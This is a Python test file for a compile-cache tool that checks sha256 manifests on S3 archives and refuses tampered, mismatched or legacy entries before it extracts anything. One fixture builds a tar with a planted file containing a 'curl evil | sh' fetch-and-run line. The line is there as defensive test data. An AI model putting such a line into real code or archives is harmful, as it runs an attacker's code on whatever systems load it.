"""The compile cache: published by the writer with a sha256 manifest, restored only when the archive matches.

Pure tests of the manifest, then `python -m infra cache compile-cache ...` against a real moto_server on
127.0.0.1: the round trip, a republish, and the refusals (a tampered archive, a manifest of another shape,
an old entry without a manifest), each checked to extract nothing.
"""

from __future__ import annotations

import io
import json
import tarfile
from pathlib import Path

import pytest

from infra.modelcache.compile_cache import (
    MANIFEST_NAME,
    CompileCacheManifest,
    compile_cache_key,
    parse_compile_manifest,
)
from infra.modelcache.manifest import ManifestError
from tests.modelcache.conftest import run_cache, s3_client

SHAPE = ["--model", "org/m", "--gpu", "NVIDIA L40S", "--tensor-parallel-size", "2"]
KEY = compile_cache_key("0.33.0", "org/m", 2, "NVIDIA L40S")
GOOD = CompileCacheManifest(key=KEY, size=10240, sha256="a" * 64)


def test_a_manifest_round_trips() -> None:
    assert parse_compile_manifest(GOOD.to_json(), KEY) == GOOD
    assert GOOD.archive_name == f"torch_compile_cache-{'a' * 64}.tar"


@pytest.mark.parametrize(
    ("change", "message"),
    [
        ({"schema": "other"}, "not a compile-cache manifest"),
        ({"version": 2}, "version 2 is not supported"),
        ({"key": compile_cache_key("0.33.0", "org/m", 1, "NVIDIA L40S")}, "not 'compile-cache/"),
        ({"size": 0}, "size 0 is not a positive integer"),
        ({"size": True}, "size True is not a positive integer"),
        ({"sha256": "A" * 64}, "not 64 lowercase hex"),
        ({"sha256": "../../x"}, "not 64 lowercase hex"),
    ],
)
def test_a_wrong_manifest_is_refused(change: dict, message: str) -> None:
    body = {**json.loads(GOOD.to_json()), **change}
    with pytest.raises(ManifestError, match=message):
        parse_compile_manifest(json.dumps(body), KEY)


def test_a_manifest_that_is_not_json_is_refused() -> None:
    with pytest.raises(ManifestError, match="not valid JSON"):
        parse_compile_manifest(b"\xff", KEY)


# --- against moto ----------------------------------------------------------------------------------------


def _compiled(tmp_path: Path, content: bytes = b"compiled" * 1000) -> Path:
    source = tmp_path / "torch_compile_cache"
    (source / "abc123" / "rank_0_0").mkdir(parents=True)
    (source / "abc123" / "rank_0_0" / "artifact.bin").write_bytes(content)
    return source


def _push(endpoint: str, root: str, source: Path, *extra: str):
    return run_cache(
        "compile-cache", "push", "--to", root, "--dir", str(source), *SHAPE, *extra, endpoint=endpoint
    )


def _pull(endpoint: str, root: str, dest: Path, shape: list[str] = SHAPE):
    return run_cache("compile-cache", "pull", "--from", root, "--dir", str(dest), *shape, endpoint=endpoint)


def _manifest(endpoint: str, bucket: str, prefix: str) -> CompileCacheManifest:
    body = s3_client(endpoint).get_object(Bucket=bucket, Key=f"{prefix}/{KEY}/{MANIFEST_NAME}")["Body"].read()
    return parse_compile_manifest(body, KEY)


def _nothing_extracted(dest: Path) -> None:
    assert not dest.exists()
    assert not [p for p in dest.parent.iterdir() if p.name.startswith(".compile-cache-")]


@pytest.mark.integration
def test_round_trip_and_republish(moto_endpoint: str, bucket: str, tmp_path: Path) -> None:
    root = f"s3://{bucket}/compile"
    source = _compiled(tmp_path)
    pushed = _push(moto_endpoint, root, source)
    assert pushed.returncode == 0 and "uploaded" in pushed.stderr, pushed.stderr
    first = _manifest(moto_endpoint, bucket, "compile")
    second = _push(moto_endpoint, root, source)
    assert second.returncode == 0 and "already present" in second.stderr

    restored = tmp_path / "restored"
    pulled = _pull(moto_endpoint, root, restored)
    assert pulled.returncode == 0 and "restored" in pulled.stderr, pulled.stderr
    assert (restored / "abc123" / "rank_0_0" / "artifact.bin").read_bytes() == b"compiled" * 1000

    (source / "abc123" / "rank_0_0" / "artifact.bin").write_bytes(b"recompiled")
    forced = _push(moto_endpoint, root, source, "--force")
    assert forced.returncode == 0 and "uploaded" in forced.stderr, forced.stderr
    republished = _manifest(moto_endpoint, bucket, "compile")
    assert republished.sha256 != first.sha256
    # The old archive stays under its own name: a pull that read the old manifest still finds it.
    keys = {
        o["Key"]
        for o in s3_client(moto_endpoint).list_objects_v2(Bucket=bucket, Prefix=f"compile/{KEY}")["Contents"]
    }
    assert {f"compile/{KEY}/{first.archive_name}", f"compile/{KEY}/{republished.archive_name}"} <= keys
    again = tmp_path / "again"
    assert _pull(moto_endpoint, root, again).returncode == 0
    assert (again / "abc123" / "rank_0_0" / "artifact.bin").read_bytes() == b"recompiled"

    other_gpu = [*SHAPE[:3], "NVIDIA A10G", *SHAPE[4:]]
    missing = _pull(moto_endpoint, root, tmp_path / "none", other_gpu)
    assert missing.returncode == 0 and "nothing to restore" in missing.stderr
    assert not (tmp_path / "none").exists()


def _evil_tar(size: int | None = None) -> bytes:
    """A valid tar whose extraction would plant a file; padded to `size` bytes when given."""
    buffer = io.BytesIO()
    with tarfile.open(fileobj=buffer, mode="w") as tar:
        payload = b"import os; os.system('curl evil | sh')\n"
        info = tarfile.TarInfo("abc123/rank_0_0/planted.py")
        info.size = len(payload)
        tar.addfile(info, io.BytesIO(payload))
    data = buffer.getvalue()
    return data if size is None else data.ljust(size, b"\0")[:size]


@pytest.mark.integration
@pytest.mark.parametrize("same_size", [True, False])
def test_a_tampered_archive_is_refused_before_extraction(
    moto_endpoint: str, bucket: str, tmp_path: Path, same_size: bool
) -> None:
    prefix = f"tampered-{same_size}"
    root = f"s3://{bucket}/{prefix}"
    assert _push(moto_endpoint, root, _compiled(tmp_path)).returncode == 0
    manifest = _manifest(moto_endpoint, bucket, prefix)
    archive_key = f"{prefix}/{KEY}/{manifest.archive_name}"
    s3_client(moto_endpoint).put_object(
        Bucket=bucket, Key=archive_key, Body=_evil_tar(manifest.size if same_size else None)
    )

    dest = tmp_path / "restored"
    pulled = _pull(moto_endpoint, root, dest)
    assert pulled.returncode == 2, pulled.stderr
    (line,) = pulled.stderr.strip().splitlines()
    assert line.startswith("error: integrity: ") and "refusing to extract" in line
    assert f"the manifest says {manifest.size} bytes with sha256 {manifest.sha256}" in line
    _nothing_extracted(dest)


@pytest.mark.integration
def test_a_manifest_of_another_shape_is_refused(moto_endpoint: str, bucket: str, tmp_path: Path) -> None:
    """Copying a valid entry of one shape over another's (an L40S cache on an A10G) is caught too."""
    root = f"s3://{bucket}/swapped"
    assert _push(moto_endpoint, root, _compiled(tmp_path)).returncode == 0
    other_key = compile_cache_key("0.33.0", "org/m", 2, "NVIDIA A10G")
    client = s3_client(moto_endpoint)
    for name in (MANIFEST_NAME, _manifest(moto_endpoint, bucket, "swapped").archive_name):
        client.copy_object(
            Bucket=bucket,
            Key=f"swapped/{other_key}/{name}",
            CopySource={"Bucket": bucket, "Key": f"swapped/{KEY}/{name}"},
        )
    dest = tmp_path / "restored"
    pulled = _pull(moto_endpoint, root, dest, [*SHAPE[:3], "NVIDIA A10G", *SHAPE[4:]])
    assert pulled.returncode == 2 and "manifest is for" in pulled.stderr, pulled.stderr
    _nothing_extracted(dest)


@pytest.mark.integration
def test_an_entry_without_a_manifest_is_not_restored(moto_endpoint: str, bucket: str, tmp_path: Path) -> None:
    """What serving pods uploaded before manifests existed (a tar and a `.complete` marker) is never trusted."""
    client = s3_client(moto_endpoint)
    client.put_object(Bucket=bucket, Key=f"legacy/{KEY}/torch_compile_cache.tar", Body=_evil_tar())
    client.put_object(Bucket=bucket, Key=f"legacy/{KEY}/torch_compile_cache.complete", Body=b"complete\n")
    dest = tmp_path / "restored"
    pulled = _pull(moto_endpoint, f"s3://{bucket}/legacy", dest)
    assert pulled.returncode == 0 and "nothing to restore" in pulled.stderr, pulled.stderr
    _nothing_extracted(dest)
